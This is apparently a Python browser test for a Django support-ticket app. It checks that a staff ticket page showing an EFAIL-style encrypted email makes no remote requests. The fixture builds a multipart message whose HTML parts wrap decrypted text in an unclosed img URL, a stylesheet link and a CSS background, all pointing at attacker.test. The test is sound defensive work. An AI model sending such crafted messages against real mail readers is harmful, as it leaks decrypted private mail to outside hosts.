"""The staff ticket page in a real browser: no remote request, badges outside content."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import browser, page  # noqa: F401 (fixtures)
from tests.inbound import shapes
from tests.inbound.conftest import register
from tests.inbound.test_hostile import SECRET, deliver

pytestmark = [pytest.mark.browser, pytest.mark.db_backends]


def test_efail_page_makes_no_remote_request(
    page,
    live_server,
    transactional_db,
    django_user_model,
    peers,
    provider_keys,
    no_acknowledgement,
):
    peer = peers["gnupg"]
    register(peer)
    opening = (
        b"Content-Type: text/html\r\n\r\n"
        b'<p>Dear support,</p><img src="http://attacker.test/?\r\n'
    )
    middle = shapes.text_entity(
        peer.encrypt(SECRET.encode(), provider_keys.current).decode()
    )
    closing = (
        b'Content-Type: text/html\r\n\r\n"><link rel="stylesheet" '
        b'href="http://attacker.test/style.css"><div style="background:url(http://attacker.test/b)">x</div>\r\n'
    )
    message = deliver(
        shapes.headers(peer.address, "efail")
        + shapes.multipart("mixed", [opening, middle, closing], "efail-boundary")
    )
    django_user_model.objects.create_user(
        "agent", password="agent-password-1", is_staff=True
    )

    server_host = urlsplit(live_server.url).netloc
    foreign: list[str] = []

    def watch(route):
        if urlsplit(route.request.url).netloc != server_host:
            foreign.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    page.route("**/*", watch)
    page.goto(live_server.url + "/accounts/login/?next=/staff/")
    page.fill("input[name=username]", "agent")
    page.fill("input[name=password]", "agent-password-1")
    page.click("button[type=submit], input[type=submit]")
    page.wait_for_url("**/staff/")
    page.goto(f"{live_server.url}/staff/tickets/{message.ticket_id}/")
    page.wait_for_load_state("networkidle")

    assert foreign == []
    status = page.locator("header.sealmail-status").first.inner_text()
    assert "Partially encrypted" in status
    decrypted = page.locator("section.part[data-part='1.2'] pre.content").inner_text()
    assert decrypted.strip() == SECRET.strip()
    # The stylesheet of the page loaded despite the Content-Security-Policy.
    badge_color = page.locator("li.badge.bad").first.evaluate(
        "element => getComputedStyle(element).backgroundColor"
    )
    assert badge_color == "rgb(248, 208, 208)"
